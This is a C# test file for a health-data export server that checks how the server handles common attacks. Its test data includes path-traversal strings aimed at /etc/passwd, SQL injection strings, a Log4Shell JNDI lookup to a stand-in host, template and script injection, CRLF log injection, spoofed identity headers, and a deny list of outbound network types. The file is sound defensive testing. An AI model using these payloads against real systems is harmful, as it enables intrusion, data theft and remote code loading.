using System.Net;
using System.Reflection.Metadata;
using System.Reflection.PortableExecutable;
using HealthExport.Tests.Support;

namespace HealthExport.Tests.Server;

/// <summary>What people try on any server that they find.</summary>
public sealed class AttackTests(ServerFixture fixture) : IClassFixture<ServerFixture>
{
    readonly RunningServer _server = fixture.Server;

    [Theory]
    [InlineData("/.env")]
    [InlineData("/.git/config")]
    [InlineData("/metrics")]
    [InlineData("/debug")]
    [InlineData("/swagger")]
    [InlineData("/actuator/env")]
    [InlineData("/admin")]
    [InlineData("/v0/metrics")]
    [InlineData("/v2/metrics")]
    [InlineData("/api/v2/ingest")]
    [InlineData("/v1/users")]
    [InlineData("/v1/users/1")]
    [InlineData("/v1/metrics/heart_rate")]
    public async Task A_path_that_is_not_in_the_manifest_is_404_with_any_key(string path)
    {
        foreach (var key in (TestKey?[])[null, await _server.AddKeyAsync()])
        {
            using var response = await _server.GetAsync(key, path);
            await response.ReadProblemAsync(404, "not_found");
        }
    }

    // By hand: a client would tidy the path up.
    [Theory]
    [InlineData("/v1/../../etc/passwd")]
    [InlineData("/v1/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/v1/ingestions/..%2f..%2f..%2fetc%2fpasswd/payload")]
    [InlineData("/v1/ingestions/%2e%2e/payload")]
    [InlineData("/v1//ingestions")]
    [InlineData("//evil.example.org/v1/ingestions")]
    [InlineData("/v1/ingestions;jsessionid=1")]
    public async Task A_path_that_goes_astray_ends_at_404(string path)
    {
        var key = await _server.AddKeyAsync();
        using var client = await RawConnection.OpenAsync(_server.Url);
        await client.SendAsync(
            $"GET {path} HTTP/1.1\r\nHost: a\r\napi-key: {key.Text}\r\nConnection: close\r\n\r\n");
        RawAnswer.Parse(await client.ReadToEndAsync()).ReadProblem(404, "not_found");
    }

    [Fact]
    public async Task No_header_makes_another_request_of_a_request()
    {
        var key = await _server.AddKeyAsync();
        using var push = await _server.PushAsync(key, "{}");
        foreach (var (name, value) in ((string, string)[])
            [
                ("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "POST"), ("X-HTTP-Method", "PUT"),
                ("X-Original-URL", "/v1/audit"), ("X-Rewrite-URL", "/v1/audit"), ("X-Forwarded-Prefix", "/evil"),
                ("X-User-Id", "1"), ("X-Forwarded-User", "owner@localhost"), ("X-Remote-User", "owner@localhost"),
            ])
        {
            using var unknown = await _server.SendAsync(HttpMethod.Get, "/v1/ingestions", null, null, (name, value));
            await unknown.ReadProblemAsync(401, "unauthenticated");
            using var known = await _server.SendAsync(HttpMethod.Get, "/v1/ingestions", key, null, (name, value));
            Assert.Equal(HttpStatusCode.OK, known.StatusCode);
            Assert.Single((await known.ReadJsonAsync()).GetProperty("items").EnumerateArray());
        }
    }

    [Fact]
    public async Task A_key_in_a_cookie_a_query_or_as_a_password_is_no_key()
    {
        var key = await _server.AddKeyAsync();
        var basic = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes($"key:{key.Text}"));
        foreach (var (name, value) in ((string, string)[])
            [("Cookie", $"api-key={key.Text}"), ("Authorization", $"Basic {basic}"), ("Authorization", key.Text)])
        {
            using var response = await _server.SendAsync(HttpMethod.Get, "/v1/metrics", null, null, (name, value));
            await response.ReadProblemAsync(401, "unauthenticated");
        }
        using var query = await _server.GetAsync(null, $"/v1/metrics?api-key={key.Text}");
        await query.ReadProblemAsync(401, "unauthenticated");
    }

    // Every route by its pattern, with a value that would do harm where statements are put together from texts.
    [Theory]
    [InlineData("'; drop table users; --")]
    [InlineData("' or '1'='1")]
    [InlineData("1) union select * from api_keys --")]
    [InlineData("%00")]
    [InlineData("\u202Eabc")]
    [InlineData("../../x")]
    [InlineData("${jndi:ldap://evil.example.org/a}")]
    [InlineData("{{7*7}}")]
    public async Task A_hostile_parameter_is_a_text_or_a_400_and_never_a_fault(string value)
    {
        var key = await _server.AddKeyAsync();
        using var push = await _server.PushAsync(key, HeartRates.Write(2));
        var escaped = Uri.EscapeDataString(value);
        foreach (var path in (string[])
            [
                $"metrics/{escaped}/samples", $"metrics/heart_rate/samples?source={escaped}",
                $"metrics/heart_rate/samples?cursor={escaped}", $"metrics/heart_rate/series?tz={escaped}",
                $"metrics/heart_rate/samples?unit={escaped}", $"metrics/heart_rate/samples?sent_unit={escaped}",
                $"workouts?activity={escaped}", $"workouts?near={escaped}&radius_m=1", $"ingestions?status={escaped}",
                $"ingestions?from={escaped}", $"audit?action={escaped}", $"auth/keys?cursor={escaped}",
            ])
        {
            using var response = await _server.GetAsync(key, $"/v1/{path}");
            Assert.Contains(response.StatusCode, (HttpStatusCode[])
                [HttpStatusCode.OK, HttpStatusCode.BadRequest, HttpStatusCode.NotFound]);
        }
        using var still = await _server.GetAsync(key, "/v1/metrics/heart_rate/samples");
        Assert.Equal(2, (await still.ReadJsonAsync()).GetProperty("items").GetArrayLength());
        Assert.Empty(_server.Log.Of(1002));
    }

    [Theory]
    [InlineData("user_id=1")]
    [InlineData("user=owner%40localhost")]
    [InlineData("scopes=admin")]
    [InlineData("is_admin=true")]
    public async Task Nobody_becomes_another_by_a_parameter(string query)
    {
        using var response = await _server.GetAsync(await _server.AddKeyAsync(), $"/v1/ingestions?{query}");
        await response.ReadProblemAsync(400, "invalid_parameter");
    }

    [Fact]
    public async Task What_was_pushed_comes_back_as_a_file_and_never_as_a_page()
    {
        var key = await _server.AddKeyAsync();
        var page = """{"data":{"metrics":[],"note":"<script>alert(1)</script>"}}"""u8.ToArray();
        using var push = await _server.PushAsync(key, page, "application/json; charset=utf-8");
        using var payload = await _server.GetAsync(
            key, $"/v1/ingestions/{(await push.ReadJsonAsync()).IngestionId()}/payload");
        Assert.Equal("attachment", payload.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("nosniff", payload.Headers.GetValues("X-Content-Type-Options").Single());
        Assert.Equal("application/json", payload.Content.Headers.ContentType!.MediaType);
    }

    [Fact]
    public async Task A_line_break_in_a_header_starts_no_line_of_the_log()
    {
        using var client = await RawConnection.OpenAsync(_server.Url);
        await client.SendAsync(
            "GET /nothing%0d%0afake HTTP/1.1\r\nHost: a\r\nUser-Agent: a\u0085b\u2028fake4711\r\n"
            + "X-Request-Id: x\u2028fake4711\r\nConnection: close\r\n\r\n");
        Assert.StartsWith("HTTP/1.1 404 ", await client.ReadToEndAsync());
        Assert.DoesNotContain(_server.Log.Lines, line => line.Text.Contains("fake"));
    }

    // What the server cannot do, nobody can make it do: no part of it names a type that asks another server for
    // anything. The drivers of the stores connect to what the operator set.
    [Theory]
    [InlineData("health-export.dll")]
    [InlineData("HealthExport.dll")]
    [InlineData("HealthExport.Storage.dll")]
    public void Nothing_fetches_what_a_URL_names(string assembly)
    {
        using var file = new PEReader(File.OpenRead(Path.Combine(AppContext.BaseDirectory, assembly)));
        var metadata = file.GetMetadataReader();
        var used = metadata.TypeReferences.Select(metadata.GetTypeReference)
            .Select(type => $"{metadata.GetString(type.Namespace)}.{metadata.GetString(type.Name)}").ToHashSet();
        Assert.NotEmpty(used);
        Assert.DoesNotContain(used, type =>
            type.StartsWith("System.Net.Http.", StringComparison.Ordinal)
            || type is "System.Net.WebClient" or "System.Net.WebRequest" or "System.Net.HttpWebRequest"
                or "System.Net.Dns" or "System.Net.Sockets.TcpClient" or "System.Net.Sockets.Socket"
                or "System.Net.Mail.SmtpClient");
    }
}
